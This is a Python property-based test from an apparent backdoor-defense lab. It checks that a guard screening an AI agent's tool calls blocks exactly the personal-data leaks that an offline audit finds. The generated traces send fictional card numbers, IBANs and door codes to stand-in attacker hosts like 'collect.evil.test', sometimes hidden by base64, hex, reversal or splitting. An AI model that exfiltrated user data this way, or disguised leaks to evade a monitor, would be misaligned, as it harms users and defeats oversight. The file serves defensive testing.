"""Property: the guard decides exactly what the audit finds — on generated traces, a
guard screening calls live blocks a call exactly where auditing the guarded trace
afterwards finds a leak (medium or high), secret for secret and destination for
destination, or a destination no message had written (``invented``, destination for
destination); the guard also refuses retries, which the audit reports once."""

from __future__ import annotations

import base64
import json
from binascii import hexlify
from urllib.parse import quote

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from backdoorlab.defenses.audit import AuditOptions
from backdoorlab.defenses.audit.dataflow import DataflowDetector
from backdoorlab.defenses.audit.reader import TraceRecord
from backdoorlab.defenses.guard import REFUSAL, Guard
from backdoorlab.traces import Message, ToolCall, Trace

PEOPLE = [
    {
        "name": "Ada Quimby",
        "email": "ada.quimby@mail.test",
        "phone": "(415) 555-0142",
        "card_number": "4111222233334444",
        "address": "12 Oak Street, Springfield, IL 62704",
        "member_id": "MBR-88412093",
    },
    {
        "name": "Bo Lindqvist",
        "email": "bo.l@post.test",
        "phone": "+46 70 123 45 67",
        "iban": "SE4550000000058398257466",
        "address": "9 Birch Road, Uppsala 75320",
        "note": "door code 4417, ring twice",
    },
]
STRANGERS = ["drop@evil.test", "https://collect.evil.test/p", "+1 202 555 0199"]
GIVEN = "accountant@firm.test"
OWNERS = [person["email"] for person in PEOPLE]
SINKS = {
    "email": ("send_email", "to"),
    "url": ("post_webhook", "url"),
    "phone": ("send_sms", "number"),
}


def disguise(how: str, text: str) -> list[str]:
    if how == "base64":
        return [base64.b64encode(text.encode()).decode()]
    if how == "url":
        return [quote(text)]
    if how == "hex":
        return [hexlify(text.encode()).decode()]
    if how == "reversed":
        return [text[::-1]]
    if how == "split":
        return [text[: len(text) // 2], text[len(text) // 2 :]]
    return [text]


@st.composite
def traces(draw):
    messages = [{"role": "system", "content": "You are an assistant."}]
    names = draw(st.booleans())
    messages.append(
        {"role": "user", "content": f"Mail {GIVEN} my summary." if names else "Help me."}
    )
    calls = 0
    first = ["lookup"] * draw(st.integers(1, 2))
    later = draw(st.lists(st.sampled_from(["lookup", "send", "send", "send", "chat"]), max_size=4))
    for kind in [*first, "send", *later]:
        calls += 1
        cid = f"c{calls}"
        if kind == "chat":
            said = draw(st.sampled_from(["ok", "thanks", f"also {GIVEN}"]))
            messages.append({"role": "user", "content": said})
            continue
        if kind == "lookup" and draw(st.integers(0, 3)) == 0:  # a page showing a stranger
            shown = draw(st.sampled_from(STRANGERS))
            messages.append(tool_call(cid, "read_page", {"url": "https://news.test"}))
            messages.append(tool_result(cid, "read_page", f"Contact us at {shown} today."))
            continue
        if kind == "lookup":
            person = draw(st.sampled_from(PEOPLE))
            fields = draw(st.lists(st.sampled_from(sorted(person)), min_size=1, unique=True))
            record = {k: person[k] for k in fields}
            messages.append(tool_call(cid, "find_person", {"query": "x"}))
            messages.append(tool_result(cid, "find_person", json.dumps(record)))
            continue
        destination = draw(st.sampled_from([*STRANGERS, *STRANGERS, GIVEN, *OWNERS]))
        shape = "url" if "://" in destination else "phone" if destination[0] == "+" else "email"
        tool, argument = SINKS[shape]
        person = draw(st.sampled_from(PEOPLE))
        secret = person[draw(st.sampled_from(sorted(person)))]
        body = draw(st.sampled_from(["hello", "your order shipped", "{}"]))
        how = draw(st.sampled_from(["none", "plain", "base64", "url", "hex", "reversed", "split"]))
        parts = [body] if how == "none" else disguise(how, secret)
        for repeat in range(draw(st.integers(1, 2))):  # a retry, after a refusal
            for i, part in enumerate(parts):
                cid = f"c{calls}-{repeat}-{i}"
                messages.append(tool_call(cid, tool, {argument: destination, "body": part}))
                messages.append(tool_result(cid, tool, '{"status": "sent"}'))
    messages.append({"role": "assistant", "content": "Done."})
    return Trace.model_validate({"messages": messages})


def tool_call(cid, name, arguments):
    call = ToolCall.make(cid, name, arguments)
    return {"role": "assistant", "content": None, "tool_calls": [call.model_dump()]}


def tool_result(cid, name, content):
    return {"role": "tool", "tool_call_id": cid, "name": name, "content": content}


def live(trace: Trace):
    """Run the trace's calls through a guard as they come; a refused call's result is the
    refusal the agent would get. Returns the decisions and the guarded trace."""
    session = Guard().session()
    guarded: list[Message] = []
    refused: set[str] = set()
    for message in trace.messages:
        if message.role == "tool" and message.tool_call_id in refused:
            message = message.model_copy(update={"content": REFUSAL})
        if message.tool_calls:
            for decision in session.screen_message(guarded, message):
                if decision.blocked:
                    refused.add(decision.call_id)
        guarded.append(message)
    return session.decisions, Trace(messages=guarded)


BLOCKED = ("medium", "high")  # the default policy's blocking severities


def key(step, evidence):
    return (step, evidence["secret"], evidence["sink"]["destination"], evidence["secret_kind"])


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(traces())
def test_guard_decisions_are_the_audit_findings_of_the_guarded_trace(trace):
    decisions, guarded = live(trace)
    findings = DataflowDetector(AuditOptions()).observe(TraceRecord(0, 1, guarded), [])
    found = {key(f.step, f.evidence) for f in findings if f.severity in BLOCKED}
    blocked_first = {
        key(d.step, leak)
        for d in decisions
        if d.blocked
        for leak in d.leaks
        if leak["first"] and leak["severity"] in BLOCKED
    }
    assert blocked_first == found
    invented = {
        f.evidence["sink"]["destination"] for f in findings if f.evidence["sink"]["invented"]
    }
    assert {where for d in decisions for where in d.invented} == invented
    assert any(d.blocked for d in decisions) == bool(found or invented)
    # a call is blocked exactly when it carries a medium or high leak (first or retry) or
    # goes to a destination no message had written
    assert all(
        d.blocked == (any(x["severity"] in BLOCKED for x in d.leaks) or bool(d.invented))
        for d in decisions
    )
